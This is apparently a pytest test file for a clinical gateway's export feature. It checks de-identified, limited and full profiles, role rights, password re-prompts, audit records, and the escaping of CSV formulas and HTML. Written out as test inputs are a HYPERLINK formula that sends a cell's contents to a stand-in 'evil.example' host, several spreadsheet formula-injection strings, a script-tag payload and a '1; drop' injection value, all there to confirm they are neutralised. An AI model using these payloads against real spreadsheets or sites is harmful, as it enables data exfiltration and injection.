"""Exports: what goes out by profile and right, that it is on record, and that nothing in a file comes alive."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from datetime import timedelta
from typing import Any

import httpx
import pytest
from fhir.resources.R4B.bundle import Bundle
from sqlalchemy import select

from gateway.console.export import csv_file
from gateway.console.export.csv_file import MESSAGES
from gateway.console.services import ConsoleServices
from gateway.records.retention import purge
from gateway.records.tables import audit
from tests.gateway.console.conftest import Hire
from tests.gateway.console.people import PASSWORD, Person, case_of
from tests.gateway.support import CANARY, RED_FLAG, Clock, Door

WHO = ("Agatha", "Quimby", "664-7665", "3/14/1950", "agatha.q@mail.example", "00482913", "Evergreen")
STORY = (
    "My name is Agatha Quimby, born 3/14/1950, MRN 00482913, 742 Evergreen Terrace. I have chest pain and a fever of 101.2. "
    "Call 212-664-7665 or agatha.q@mail.example"
)
LATER = "Quimby again, pain 8/10"
SCRIPT = '<script>alert("x")</script> chest pain'


def send(person: Person, path: str = "/export", **fields: Any) -> httpx.Response:
    return person.post(path, **{"days": "7", "profile": "deidentified", "format": "csv", "reason": "quality", **fields})


def table(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    text = response.content.decode("utf-8-sig")
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(text)))


def told(door: Door, text: str = STORY, *more: str) -> int:
    patient = door.patient()
    for each in (text, *more):
        patient.say(each)
    return case_of(door, patient)


def audited(services: ConsoleServices, act: str) -> list[Any]:
    with services.records.engine.connect() as connection:
        return list(connection.execute(select(audit).where(audit.c.act == act).order_by(audit.c.seq)))


@pytest.mark.parametrize("profile", ["limited", "deidentified"])
@pytest.mark.parametrize("format", ["csv", "fhir"])
def test_who_the_patient_is_stands_in_no_masked_file_or_preview(door: Door, nurse: Person, profile: str, format: str) -> None:
    told(door, STORY, LATER)
    preview = send(nurse, "/export/preview", profile=profile, format=format)
    file = send(nurse, profile=profile, format=format)
    for text in (preview.text, file.text):
        assert "fever of 101.2" in text
        assert "pain 8/10" in text
        assert [each for each in WHO if each in text] == []


def test_a_deidentified_file_knows_no_case_no_day_and_no_staff(door: Door, services: ConsoleServices, nurse: Person, lead: Person) -> None:
    patient = door.patient()
    patient.say(f"Lead Example said call, {RED_FLAG}")
    number, name = case_of(door, patient), door.name(patient)
    for format in ("csv", "fhir"):
        text = send(lead, format=format).content.decode("utf-8-sig")
        assert CANARY in text
        assert name not in text
        assert "Example" not in text
    rows = table(send(lead))
    assert {row["at"] for row in rows} == {""}
    assert {row["minutes_since_opening"] for row in rows} == {"0"}
    assert rows[0]["case"] != str(number)
    assert len(rows[0]["case"]) == 16
    assert rows[0]["exported_by"] == f"account {lead.id}"
    assert table(send(lead))[0]["case"] != rows[0]["case"]


def test_a_limited_file_knows_the_day_and_not_the_minute(door: Door, nurse: Person) -> None:
    number = told(door)
    rows = table(send(nurse, profile="limited"))
    assert rows[0]["case"] == str(number)
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d", row["at"]) for row in rows)
    assert {row["acknowledged_by"] for row in rows} == {""}


def test_a_full_file_has_everything(door: Door, lead: Person) -> None:
    told(door)
    row = table(send(lead, profile="full"))[0]
    assert row["words"] == STORY
    assert row["exported_by"] == lead.name
    assert row["reason"] == "Quality review"
    assert "T" in row["at"]


def test_every_row_says_where_the_audit_stood(door: Door, services: ConsoleServices, nurse: Person) -> None:
    told(door)
    rows = table(send(nurse))
    assert {row["audit_head"] for row in rows} == {str(services.audit_log.head())}
    assert tuple(rows[0]) == MESSAGES.columns


@pytest.mark.parametrize(
    ("role", "may"),
    [
        ("nurse", ("limited", "deidentified")),
        ("lead", ("full", "limited", "deidentified")),
        ("auditor", ("deidentified",)),
        ("admin", ()),
    ],
)
def test_each_role_has_its_profiles(door: Door, hire: Hire, services: ConsoleServices, role: str, may: tuple[str, ...]) -> None:
    told(door)
    person = hire(role)
    assert person.get("/export").status_code == (200 if may else 403)
    for profile in ("full", "limited", "deidentified"):
        for path in ("/export/preview", "/export"):
            assert send(person, path, profile=profile).status_code == (200 if profile in may else 403), (path, profile)
    offered = re.findall(r'name="profile" value="(\w+)"', person.get("/export").text)
    assert tuple(offered) == may
    assert len(audited(services, "refused")) >= 2 * (3 - len(may))


def test_a_full_export_asks_for_the_password_again(door: Door, services: ConsoleServices, lead: Person) -> None:
    told(door)
    for _ in range(2):
        door.clock.travel(minutes=8)
        assert lead.get("/me").status_code == 200
    for path in ("/export/preview", "/export"):
        answer = send(lead, path, profile="full")
        assert answer.status_code == 403
        assert "password" in answer.text
        assert "Agatha" not in answer.text
        assert send(lead, path, profile="full", password="not the password").status_code == 403
    assert len(audited(services, "export_proof_failed")) == 2
    assert send(lead, profile="limited").status_code == 200
    assert table(send(lead, profile="full", password=PASSWORD))[0]["words"] == STORY
    assert send(lead, profile="full").status_code == 200


def test_who_comes_by_the_provider_is_sent_there_again_before_a_full_export(door: Door, services: ConsoleServices, clock: Clock) -> None:
    told(door)
    person = Person(door, "Lead Vouched", "lead")
    person.token = services.sessions.start(services.book.adopt("https://id.example|1", person.name, person.role, None))
    login = services.sessions.find(person.token)
    assert login is not None
    person.csrf = login.csrf
    assert send(person, profile="full").status_code == 200
    for _ in range(2):
        clock.travel(minutes=8)
        person.get("/me")
    answer = send(person, profile="full", password="anything")
    assert answer.status_code == 403
    assert "/console/oidc/login?unlock=1" in answer.text
    assert "for a full export <input" not in answer.text
    assert not audited(services, "export_proof_failed")


def test_exports_and_previews_are_on_record_without_words(door: Door, services: ConsoleServices, nurse: Person) -> None:
    numbers = [told(door, f"I have chest pain {CANARY}") for _ in range(22)]
    send(nurse, "/export/preview", profile="limited")
    send(nurse, format="fhir", cases=str(numbers[0]))
    (preview,), (export,) = audited(services, "export_preview"), audited(services, "export")
    assert preview.detail["cases"] == 22
    assert len(preview.detail["ids"]) == 20
    assert preview.staff_id == nurse.id
    assert (export.detail["profile"], export.detail["format"], export.detail["reason"]) == ("deidentified", "fhir", "quality")
    assert (export.case_id, export.detail["ids"]) == (numbers[0], [numbers[0]])
    assert CANARY not in json.dumps([preview.detail, export.detail])
    assert not services.audit_log.verify().problem


def test_the_preview_shows_the_rows_of_the_file(door: Door, nurse: Person) -> None:
    told(door)
    page = send(nurse, "/export/preview")
    token = re.search(r'name="token" value="([0-9a-f]{32})"', page.text)
    assert token is not None
    rows = table(send(nurse, token=token[1]))
    cells = re.findall(r"<td>(.*?)</td>", page.text, re.DOTALL)
    assert cells[0] == rows[0]["case"]
    assert f"<strong>{len(rows)}</strong> messages" in page.text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "＝"])
def test_no_cell_is_a_formula(start: str) -> None:
    assert csv_file.harmless(f"{start}1+1") == f"'{start}1+1"
    assert csv_file.harmless("1=1") == "1=1"


@pytest.mark.parametrize("end", [";", "; ", "\t", "\n", "\r\n"])
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝"])
def test_no_cell_is_a_formula_where_a_spreadsheet_splits_at_semicolons(end: str, sign: str) -> None:
    assert csv_file.harmless(f"pain{end}{sign}1+1;") == f"pain{end}'{sign}1+1;"
    assert csv_file.harmless("one\n\ntwo; three") == "one\n\ntwo; three"


@pytest.mark.parametrize("cell", ['a;"=1+1', 'a; "" @SUM(1)', 'a\n"+1', "a;\u2003=1", '";=1', "a;\t;-1", ';"="&A1'])
def test_no_cell_is_a_formula_behind_a_quote_where_it_is_split_at_semicolons(cell: str) -> None:
    """What a spreadsheet makes of the line where it splits at semicolons alone, as it does in half of Europe."""
    line = f'1,"{csv_file.harmless(cell).replace(chr(34), chr(34) * 2)}",2'
    for part in re.split(r"[;\t\r\n]", line)[1:]:
        assert not part.strip().strip('"').strip().startswith(("=", "+", "-", "@")), part


@pytest.mark.parametrize("cell", ['"=1+1', '" @SUM(1)', "\u2003=1", ' "-1'])
def test_no_cell_begins_as_a_formula_behind_quotes_and_blanks(cell: str) -> None:
    assert csv_file.harmless(cell) == f"'{cell}"


def test_a_long_cell_is_made_harmless_in_time() -> None:
    for cell in ("\t" * 200_000, ';"' * 100_000, " =" * 100_000):
        began = time.monotonic()
        csv_file.harmless(cell)
        assert time.monotonic() - began < 1


def test_wrong_passwords_for_a_full_export_end_the_login(door: Door, services: ConsoleServices, lead: Person, clock: Clock) -> None:
    told(door)
    for _ in range(2):
        clock.travel(minutes=8)
        assert lead.get("/me").status_code == 200
    tries = [send(lead, profile="full", password="wrong") for _ in range(5)]
    assert [answer.status_code for answer in tries] == [403, 403, 403, 403, 401]
    assert lead.get("/me").status_code == 303
    assert len(audited(services, "export_proof_failed")) == 5


def test_a_patient_can_not_put_a_formula_into_a_spreadsheet(door: Door, lead: Person) -> None:
    told(door, '=HYPERLINK("https://evil.example?"&A1,"chest pain")')
    row = table(send(lead, profile="full"))[0]
    assert row["words"].startswith("'=HYPERLINK")


def test_a_fhir_file_is_one_that_the_library_reads(door: Door, nurse: Person, lead: Person) -> None:
    number = told(door, "I have chest pain, no fever")
    told(door, "My back is sore")
    for profile in ("deidentified", "limited", "full"):
        file = send(lead, profile=profile, format="fhir")
        assert file.headers["content-type"] == "application/fhir+json"
        bundle = Bundle.model_validate_json(file.content)
        resources = [entry.resource for entry in bundle.entry or ()]
        kinds = [resource.get_resource_type() for resource in resources if resource is not None]
        assert len(kinds) == len(resources)
        assert kinds.count("Patient") == kinds.count("Task") == 2
        assert kinds.count("Communication") == 4
        assert kinds[-1] == "Provenance"
    one = json.loads(send(lead, profile="limited", format="fhir", cases=str(number)).content)
    found = {r["code"]["coding"][0]["code"]: r for r in (e["resource"] for e in one["entry"]) if r["resourceType"] == "Observation"}
    assert found["chest_pain"]["valueBoolean"] is True
    assert found["fever"]["valueBoolean"] is False
    task = next(e["resource"] for e in one["entry"] if e["resource"]["resourceType"] == "Task")
    assert (task["status"], task["priority"]) == ("requested", "stat")
    assert one["entry"][-1]["resource"]["agent"][0]["who"]["display"] == lead.name


@pytest.mark.parametrize("format", ["csv", "fhir"])
def test_words_are_never_markup(door: Door, lead: Person, format: str) -> None:
    told(door, SCRIPT)
    page = send(lead, "/export/preview", profile="full", format=format)
    assert page.status_code == 200
    assert "<script>alert" not in page.text
    assert "&lt;script&gt;alert" in page.text


def test_a_file_is_downloaded_and_kept_by_no_cache(door: Door, nurse: Person) -> None:
    told(door)
    headers = send(nurse).headers
    assert re.fullmatch(r'attachment; filename="aftercare-deidentified-\d{8}-\d{6}\.csv"', headers["content-disposition"])
    assert headers["cache-control"] == "no-store"


def test_tier_and_numbers_choose(door: Door, nurse: Person) -> None:
    red, sore = told(door, RED_FLAG), told(door, "My back is a little sore")
    assert {row["case"] for row in table(send(nurse, profile="limited", tier="3"))} == {str(red)}
    assert {row["case"] for row in table(send(nurse, profile="limited", cases=f"{sore}, 999"))} == {str(sore)}
    assert "1 of the numbers" in send(nurse, "/export/preview", profile="limited", cases=f"{sore}, 999").text


@pytest.mark.parametrize(
    "fields",
    [
        {"reason": ""}, {"reason": "curiosity"}, {"profile": "everything"}, {"format": "exe"}, {"cases": "1; drop"}, {"days": "0"},
        {"tier": "9"}, {"cases": "999"}, {"cases": ",".join(map(str, range(501)))},
    ],
)  # fmt: skip
def test_what_can_not_be_chosen_is_refused(door: Door, services: ConsoleServices, nurse: Person, fields: dict[str, str]) -> None:
    told(door)
    assert send(nurse, **fields).status_code == 422
    assert not audited(services, "export")


def test_a_purged_case_goes_out_without_words(door: Door, lead: Person) -> None:
    told(door)
    purge(door.records.engine, door.clock() + timedelta(days=1), dry_run=False)
    assert {row["words"] for row in table(send(lead, profile="full"))} == {"[purged]"}
    assert send(lead, profile="full", format="fhir").status_code == 200
